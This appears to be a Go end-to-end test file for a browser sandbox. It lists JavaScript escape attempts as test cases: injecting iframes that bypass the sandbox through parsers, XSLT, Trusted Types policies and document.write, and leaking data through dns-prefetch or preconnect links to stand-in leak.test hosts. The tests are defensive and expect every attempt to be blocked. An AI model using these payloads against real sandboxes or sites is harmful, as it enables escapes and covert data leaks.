package e2e

import "strings"

// frameOf is an attack by a frame whose text has a script of the bundle: it would have no bridge, and say that it ran.
func frameOf(name, make string) attack {
	return attack{"frame by " + name, `framed((TEXT) => { ` + make + ` })`, "silence"}
}

// linkOf is an attack by a link that connects to a host, or looks up its name; what it did is seen at the host, and in the browser's log.
func linkOf(name, make string) attack {
	host := strings.ReplaceAll(name, " ", "-")
	return attack{"link by " + name, `linked("` + host + `", async (REL, TO, HTML) => { ` + make + ` })`, "nothing"}
}

// escapes are ways to a frame without the bridge, and to a link that connects: by HTML, by nodes, and by what makes either.
var escapes = []attack{
	frameOf("property", `add("iframe", { srcdoc: TEXT })`),
	frameOf("attribute", `const f = add("iframe"); f.setAttribute("SrcDoc", TEXT)`),
	frameOf("name that changes", `const f = add("iframe"); let n = 0; f.setAttribute({ toString: () => (n++ ? "srcdoc" : "title") }, TEXT); f.setAttribute({ toString: () => "srcdoc" }, TEXT)`),
	frameOf("attribute without namespace", `const f = add("iframe"); f.setAttributeNS(null, "srcdoc", TEXT); f.setAttributeNS("", "srcdoc", TEXT)`),
	frameOf("attribute node", `const f = add("iframe"), a = document.createAttribute("srcdoc"); a.value = TEXT; f.setAttributeNode(a)`),
	frameOf("attribute node without namespace", `const f = add("iframe"), a = document.createAttributeNS(null, "srcdoc"); a.nodeValue = TEXT; f.setAttributeNodeNS(a)`),
	frameOf("map of attributes", `const f = add("iframe"), a = document.createAttribute("srcdoc"); a.textContent = TEXT; f.attributes.setNamedItem(a); f.attributes.setNamedItemNS(a)`),
	frameOf("value", `const f = add("iframe"); f.toggleAttribute("srcdoc", true); f.attributes.srcdoc.value = TEXT`),
	frameOf("value of a node", `const f = add("iframe"); f.toggleAttribute("srcdoc", true); f.attributes.srcdoc.nodeValue = TEXT; f.attributes.srcdoc.textContent = TEXT`),
	frameOf("attribute of another", `const f = add("iframe"), p = document.createElement("p"); p.setAttribute("srcdoc", TEXT); f.setAttributeNode(p.removeAttributeNode(p.attributes.srcdoc))`),
	frameOf("inner HTML", `add("div").innerHTML = FRAME(TEXT)`),
	frameOf("outer HTML", `add("div").outerHTML = FRAME(TEXT)`),
	frameOf("adjacent HTML", `document.body.insertAdjacentHTML("beforeend", FRAME(TEXT).replace("srcdoc", "\nSRCDOC\t"))`),
	frameOf("unsafe HTML", `add("div").setHTMLUnsafe("<div><template shadowrootmode=open>" + FRAME(TEXT) + "</template></div>")`),
	frameOf("HTML of a shadow", `add("div").attachShadow({ mode: "open" }).innerHTML = FRAME(TEXT)`),
	frameOf("fragment", `document.body.append(document.createRange().createContextualFragment(FRAME(TEXT)))`),
	frameOf("template", `const t = document.createElement("template"); t.innerHTML = FRAME(TEXT); document.body.append(t.content.cloneNode(true))`),
	frameOf("inert document", `const d = document.implementation.createHTMLDocument(""); d.body.innerHTML = FRAME(TEXT); document.body.append(d.body.firstChild)`),
	frameOf("parser", `document.body.append(new DOMParser().parseFromString(FRAME(TEXT), "text/html").body.firstChild)`),
	frameOf("parser of a template", `document.body.append(document.importNode(new DOMParser().parseFromString("<template>" + FRAME(TEXT) + "</template>", "text/html").querySelector("template").content, true))`),
	frameOf("document that is parsed", `document.body.append(Document.parseHTMLUnsafe(FRAME(TEXT)).body.firstChild)`),
	frameOf("written inert document", `const d = document.implementation.createHTMLDocument(""); d.write("<body><iframe src"); d.write("doc='" + TEXT + "'></iframe>"); document.body.append(d.querySelector("iframe"))`),
	frameOf("entity", `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "<iframe xmlns=\'http://www.w3.org/1999/xhtml\' &#115;rcdoc=\'' + TEXT.replace(/</g, "&#38;#60;") + '\'/>">]><x>&e;</x>', "text/xml"); document.body.append(document.importNode(d.documentElement.firstChild, true))`),
	frameOf("default of a document type", `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ATTLIST iframe srcdoc CDATA "' + TEXT.replace(/</g, "&#60;") + '">]><x><iframe xmlns="http://www.w3.org/1999/xhtml"/></x>', "text/xml"); document.body.append(document.importNode(d.documentElement.firstChild, true))`),
	frameOf("transformation", `const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml"><xsl:attribute name="{concat(\'src\', \'doc\')}">' + TEXT.replace(/</g, "&lt;") + '</xsl:attribute></iframe></xsl:template></xsl:stylesheet>', "text/xml")); document.body.append(p.transformToFragment(document.implementation.createDocument(null, "x"), document))`),
	frameOf("command", `const e = add("div", { contentEditable: "true", textContent: "x" }); e.focus(); getSelection().selectAllChildren(e); document.execCommand("insertHTML", false, FRAME(TEXT))`),
	frameOf("policy of its own", `const p = trustedTypes.createPolicy("mine", { createHTML: (s) => s }); add("div").innerHTML = p.createHTML(FRAME(TEXT)); add("iframe", { srcdoc: p.createHTML(TEXT) }); add("iframe").setAttribute("srcdoc", p.createHTML(TEXT))`),
	frameOf("the default policy", `add("div").innerHTML = trustedTypes.defaultPolicy.createHTML(FRAME(TEXT)); add("iframe", { srcdoc: trustedTypes.defaultPolicy.createHTML(TEXT) })`),
	frameOf("another default policy", `TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, "default", { createHTML: (s) => s }); add("div").innerHTML = FRAME(TEXT)`),
	frameOf("changed built-ins", `const e = RegExp.prototype.exec, s = String.prototype.slice, i = Symbol.iterator; try { RegExp.prototype.exec = () => null; String.prototype.slice = () => "x"; Object.prototype.get = () => "x"; add("div").innerHTML = FRAME(TEXT) } finally { RegExp.prototype.exec = e; String.prototype.slice = s; delete Object.prototype.get }`),
	frameOf("data with a script", `add("iframe", { src: "data:text/html," + encodeURIComponent(TEXT) })`),
	frameOf("blob with a script", `add("iframe", { src: URL.createObjectURL(new Blob([TEXT], { type: "text/html" })) })`),
	frameOf("script in its address", `add("iframe", { src: "javascript:" + JSON.stringify(TEXT) })`),
	frameOf("object", `add("object", { data: "data:text/html," + encodeURIComponent(TEXT) }); add("embed", { src: base + "h5/page.svg" }); add("object", { data: base + "h5/page.svg" })`),
	frameOf("page of the app", `add("iframe", { src: base + "h5/page.svg" }); const f = add("iframe"); f.contentWindow.location = base + "h5/page.svg"`),
	{"frame that is a document", `(document.body.append(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe", null).documentElement), String(window[0]))`, "undefined"},
	{"frame that is a custom element", `(customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }), String(window[0]))`, "TypeError"},
	{"frame in a namespace", `(document.body.append(document.createElementNS("http://www.w3.org/1999/xhtml", "h:IFRAME".toLowerCase())), String(window[0]))`, "undefined"},
	{"frame by HTML", `(document.body.insertAdjacentHTML("beforeend", "<IFRAME name=x></IFRAME>"), document.body.append(new DOMParser().parseFromString("<iframe>", "text/html").body), String(window[0]))`, "undefined"},
	{"frame by an object", `(add("object", { data: "about:blank", type: "text/html" }), add("embed", { src: "about:blank", type: "text/html" }), await wait(), String(window[0]))`, "undefined"},
	{"frame by an empty object", `(add("object", { type: "text/html" }), await wait(), String(window[0]))`, "undefined"},
	{"frames of the page's HTML", `JSON.stringify(ran)`, "[]"},
	{"frame that is empty", `String(add("iframe").contentWindow.RTCPeerConnection)`, "TypeError"},
	{"frame that is reached by its number", `(add("iframe", { name: "within" }), String(window[0].RTCPeerConnection))`, "TypeError"},
	{"script before the doctype", `window.early`, "undefined undefined"},
	{"worker's web rtc", `inWorker("postMessage(typeof RTCPeerConnection + typeof webkitRTCPeerConnection)")`, "undefinedundefined"},

	linkOf("property", `const l = document.createElement("link"); l.href = TO; document.head.append(l); l.rel = REL`),
	linkOf("property before its address", `const l = document.createElement("link"); l.rel = REL; document.head.append(l); l.href = TO`),
	linkOf("attribute", `const l = document.createElement("link"); l.setAttribute("REL", "x " + REL.toUpperCase() + "\n"); l.href = TO; document.head.append(l)`),
	linkOf("value that changes", `const l = document.createElement("link"); let n = 0; l.setAttribute("rel", { toString: () => (n++ ? REL : "icon") }); l.rel = { toString: () => REL }; l.href = TO; document.head.append(l)`),
	linkOf("attribute without namespace", `const l = document.createElementNS("http://www.w3.org/1999/xhtml", "link"); l.setAttributeNS(null, "rel", REL); l.href = TO; document.head.append(l)`),
	linkOf("attribute node", `const l = document.createElement("link"), a = document.createAttribute("rel"); a.value = REL; l.href = TO; l.setAttributeNode(a); document.head.append(l)`),
	linkOf("map of attributes", `const l = document.createElement("link"), a = document.createAttribute("rel"); l.attributes.setNamedItem(a); l.href = TO; document.head.append(l); a.value = REL; a.nodeValue = REL; a.textContent = REL`),
	linkOf("attribute of another", `const l = document.createElement("link"), p = document.createElement("a"); p.setAttribute("rel", REL); l.href = TO; document.head.append(l); l.setAttributeNode(p.removeAttributeNode(p.attributes.rel))`),
	linkOf("list", `const l = document.createElement("link"); l.relList.add("icon", REL); l.relList.toggle(REL, true); l.relList.replace("icon", REL); l.relList.value += " " + REL; l.relList = REL; l.href = TO; document.head.append(l)`),
	linkOf("inner HTML", `add("div").innerHTML = HTML`),
	linkOf("outer HTML", `add("div").outerHTML = HTML.replace("rel=", "title='>' REL=").toUpperCase().replace(TO.toUpperCase(), TO)`),
	linkOf("adjacent HTML", `document.body.insertAdjacentHTML("beforeend", "<svg><style><p>" + HTML + "</style></svg>")`),
	linkOf("entities", `document.body.insertAdjacentHTML("beforeend", HTML.replace(/rel="(.)/, (_, c) => 'rel="&#' + c.charCodeAt(0) + ";"))`),
	linkOf("safe HTML", `add("div").setHTML?.(HTML, { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } })`),
	linkOf("unsafe HTML", `add("div").setHTMLUnsafe(HTML)`),
	linkOf("fragment", `document.head.append(document.createRange().createContextualFragment(HTML))`),
	linkOf("template", `const t = document.createElement("template"); t.innerHTML = HTML; document.body.append(t.content.cloneNode(true))`),
	linkOf("parser", `document.head.append(new DOMParser().parseFromString(HTML, "text/html").querySelector("link") ?? "")`),
	linkOf("XML", `const d = new DOMParser().parseFromString('<x xmlns:h="http://www.w3.org/1999/xhtml"><h:style><h:link rel="' + REL + '" href="' + TO + '"/></h:style></x>', "text/xml"); document.head.append(d.documentElement.firstChild.firstChild)`),
	linkOf("HTML in XML", `const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "x"); d.documentElement.innerHTML = '<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="' + REL + '" href="' + TO + '"/>'; document.head.append(d.documentElement.firstChild)`),
	linkOf("entity", `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "<&#108;ink xmlns=\'http://www.w3.org/1999/xhtml\' rel=\'' + REL + "' href='" + TO + '\'/>">]><x>&e;</x>', "text/xml"); document.head.append(d.documentElement.firstChild)`),
	linkOf("policy of its own", `const p = trustedTypes.createPolicy("links", { createHTML: (s) => s }); add("div").innerHTML = p.createHTML(HTML)`),
	linkOf("command", `const e = add("div", { contentEditable: "true", textContent: "x" }); e.focus(); getSelection().selectAllChildren(e); document.execCommand("insertHTML", false, HTML)`),
	linkOf("page of the app", `add("iframe", { src: base + "h5/page.svg" })`),
	{"anchors", `(document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="x-dns-prefetch-control" content="on">'), document.body.insertAdjacentHTML("beforeend", '<a href="//anchor.leak.test/">there</a>'), wait("nothing"))`, "nothing"},
	{"pages ahead by a text of the page", `(add("script", { type: "speculationrules", textContent: document.querySelector("#rules").textContent }), wait("nothing"))`, "nothing"},
	{"later fetch", `typeof fetchLater === "undefined" ? "refused" : (fetchLater(OUT + "/later", { activateAfter: 0 }), wait("nothing"))`, "SecurityError"},
	{"advertisements", `typeof navigator.joinAdInterestGroup === "undefined" ? "refused" : navigator.joinAdInterestGroup({ owner: OUT, name: "x" }, 9).then(() => "JOINED", () => "refused")`, "refused"},
	{"topics", `typeof document.browsingTopics === "undefined" ? "refused" : document.browsingTopics().then(() => "TOLD", () => "refused")`, "refused"},
	{"identity", `navigator.credentials.get({ identity: { providers: [{ configURL: OUT + "/identity", clientId: "x" }] } }).then(() => "TOLD", () => "refused")`, "refused"},
	{"keys", `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }).then(() => "TOLD", () => "refused")`, "refused"},
	{"share", `typeof navigator.share === "undefined" ? "refused" : navigator.share({ url: OUT }).then(() => "SHARED", () => "refused")`, "refused"},
	{"serial", `typeof navigator.serial === "undefined" ? "refused" : navigator.serial.getPorts().then((l) => "TOLD", () => "refused")`, "refused"},
	{"human interfaces", `typeof navigator.hid === "undefined" ? "refused" : navigator.hid.getDevices().then((l) => "TOLD", () => "refused")`, "refused"},
	{"fonts of the machine", `typeof queryLocalFonts === "undefined" ? "refused" : queryLocalFonts().then((l) => "TOLD", () => "refused")`, "refused"},
	{"idle", `typeof IdleDetector === "undefined" ? "refused" : IdleDetector.requestPermission().then(() => "GIVEN", () => "refused")`, "refused"},
	{"sensors", `typeof Accelerometer === "undefined" ? "refused" : (new Accelerometer(), "MADE")`, "SecurityError"},
	{"midi", `typeof navigator.requestMIDIAccess === "undefined" ? "refused" : navigator.requestMIDIAccess().then(() => "GIVEN", () => "refused")`, "refused"},
	{"presentation", `typeof PresentationRequest === "undefined" ? "refused" : (new PresentationRequest(OUT + "/show"), "MADE")`, "SecurityError"},
}

// escapeScript is what the escapes are said by.
const escapeScript = `
const FRAME = (text) => "<iframe srcdoc='" + text + "'></iframe>";
const framed = async (make) => {
  ran.length = 0;
  try { await make('<script src="' + base + 'h5/ran.js"><\/script>') } catch (e) { if (e.name === "SyntaxError") return e.message }
  await wait();
  document.querySelectorAll("iframe, object, embed").forEach((f) => f.remove());
  return ran.length ? ran.splice(0).join(" ") : "silence";
};
const linked = async (name, make) => {
  for (const REL of ["dns-prefetch", "preconnect"]) {
    const TO = REL === "preconnect" ? OUT + "/" : "//" + name + ".leak.test/";
    try { await make(REL, TO, '<link rel="' + REL + '" href="' + TO + '">') } catch (e) { if (e.name === "SyntaxError") return e.message }
  }
  return wait("nothing");
};
`

// ranScript runs where there may be no bridge, and tells the page, and a host by datagrams.
const ranScript = `parent.postMessage("RAN", "*");
if (typeof RTCPeerConnection !== "undefined") (@PEER@)(window);`

// writtenScript writes the page in parts, as it is read, which are names only together, and with what follows them in the page.
const writtenScript = `window.ran = [];
addEventListener("message", (e) => ran.push(String(e.data)));
const text = '<script src="' + new URL("ran.js", location.href).href + '"><\/script>';
document.write("<iframe src"); document.write("doc='" + text + "'></iframe>");
document.write("<iframe ", "s"); document.writeln("rcdoc='", text, "'></iframe>");
document.write("<iframe title='>'"); document.write(" SRCDO"); document.write("C='" + text + "'></iframe>");
document.write("<iframe srcdoc"); document.write("='" + text + "'></iframe>");
document.write("<lin"); document.write("k rel=dns-prefetch href=//written1.leak.test>");
document.write("<"); document.write("link rel=dns-prefetch href=//written2.leak.test>");
document.write("<link rel=dns-"); document.write("prefetch href=//written3.leak.test>");
document.write("<link href=//written4.leak.test rel=preconnect>");
document.write("<a title='");`

// escapePage has what a page can have of it in its own HTML; @RAN@ is the address of the script that tells.
const escapePage = `<script src="early.js"></script><!doctype html><title>Attack</title>
<link rel="dns-prefetch" href="//static1.leak.test"><LINK HREF="//static2.leak.test" REL="icon pre&#99;onnect"/><link rel=prefetch href=@OUT@/static>
<iframe srcdoc="&lt;script src='ran.js'>&lt;/script>"></iframe><svg><style><p><iframe srcdoc="<script src='ran.js'></script>"></iframe><link rel=dns-prefetch href=//static3.leak.test></style></svg>
<script type="text/plain" id="rules">{"prefetch": [{"source": "list", "urls": ["@OUT@/ahead"]}], "prerender": [{"source": "list", "urls": ["@OUT@/ahead2"]}]}</script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["@OUT@/rules"]}]}</script>
<h1>Attack</h1><body><script src="written.js"></script><textarea title="'><iframe srcdoc='<script src=ran.js></script>'></iframe><link rel=dns-prefetch href=//static4.leak.test>"></textarea>
<script src="attack.js"></script>`

// escapeDrawing is a document that is no page, and would have no bridge.
const escapeDrawing = `<svg xmlns="http://www.w3.org/2000/svg"><script href="ran.js"/><link xmlns="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="//drawing.leak.test"/></svg>`
